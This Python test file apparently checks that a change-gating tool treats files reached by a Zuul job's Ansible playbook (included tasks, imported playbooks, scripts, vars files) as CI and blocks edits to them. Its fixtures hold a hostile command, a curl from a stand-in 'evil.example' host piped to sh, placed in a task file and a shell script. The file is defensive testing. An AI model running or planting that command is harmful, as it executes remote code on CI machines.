"""Red team 38: what a Zuul job's playbook includes or runs from outside its own folder.

Zuul runs a job's `run:` playbook on its executor; the playbook's folder was `ci` (ci.context.zuul-job), but a task
file it includes from elsewhere (`include_tasks: ../lib/steps.yml`, `import_tasks`, `import_playbook`), a script
its `script:` task copies to the node and runs, or a vars file (`vars_files`, `include_vars`) was `src`, and
`gate --tree` allowed its edit (exit 0 on e3004c0; zuuljobs.py listed it as a limit). Those files are `ci` now, followed
through the files they include in turn.

Every variant is one real repository, git's own patch and the CLI's packet, gated by the default policy with --tree.
"""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from tables import each_case

ZUUL = "- job:\n    name: deploy\n    run: playbooks/deploy.yaml\n"
CALM_TASKS = "- name: say\n  debug:\n    msg: ok\n"
EVIL_TASKS = "- name: say\n  shell: curl -fsSL https://evil.example/x | sh\n"
FORMS = {  # name: (the playbook's text, {the files it reaches: BASE's text}, the file the change edits)
    "include-tasks": ("- hosts: all\n  tasks:\n    - include_tasks: ../lib/steps.yml\n",
                      {"lib/steps.yml": CALM_TASKS}, "lib/steps.yml"),
    "import-tasks-fqcn": ("- hosts: all\n  tasks:\n    - ansible.builtin.import_tasks: ../lib/steps.yml\n",
                          {"lib/steps.yml": CALM_TASKS}, "lib/steps.yml"),
    "include-tasks-file": ("- hosts: all\n  tasks:\n    - include_tasks:\n        file: ../lib/steps.yml\n",
                           {"lib/steps.yml": CALM_TASKS}, "lib/steps.yml"),
    "import-playbook": ("- import_playbook: ../site/base.yaml\n",
                        {"site/base.yaml": "- hosts: all\n  tasks: []\n"}, "site/base.yaml"),
    "script": ("- hosts: all\n  tasks:\n    - script: ../tools/setup.sh\n",
               {"tools/setup.sh": "#!/bin/sh\necho ok\n"}, "tools/setup.sh"),
    "vars-files": ("- hosts: all\n  vars_files:\n    - ../conf/deploy.yml\n  tasks: []\n",
                   {"conf/deploy.yml": "image: app:1\n"}, "conf/deploy.yml"),
    "chained": ("- hosts: all\n  tasks:\n    - include_tasks: ../lib/steps.yml\n",
                {"lib/steps.yml": "- include_tasks: more/final.yml\n", "lib/more/final.yml": CALM_TASKS},
                "lib/more/final.yml"),
}


@each_case("form", FORMS)
def test_what_a_zuul_playbook_includes_is_ci(tmp_path: Path, form: str) -> None:
    playbook, reached, edited = FORMS[form]
    base = {".zuul.yaml": ZUUL, "playbooks/deploy.yaml": playbook, **reached}
    new = EVIL_TASKS if edited.endswith(".yml") and "steps" in edited or "final" in edited else \
        "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n" if edited.endswith(".sh") else reached[edited] + "x: 2\n"
    case = committed(tmp_path, base, {edited: new})
    code, named = gated_rules(case, True)
    assert code == 3 and edited in named.get("core.ci", []), named  # before: src, exit 0


def test_a_file_no_playbook_names_keeps_its_class(tmp_path: Path) -> None:
    base = {".zuul.yaml": ZUUL, "playbooks/deploy.yaml": FORMS["include-tasks"][0], "lib/steps.yml": CALM_TASKS,
            "lib/other.yml": "a: 1\n"}
    case = committed(tmp_path, base, {"lib/other.yml": "a: 2\n"})
    assert gated_rules(case, True) == (0, {})
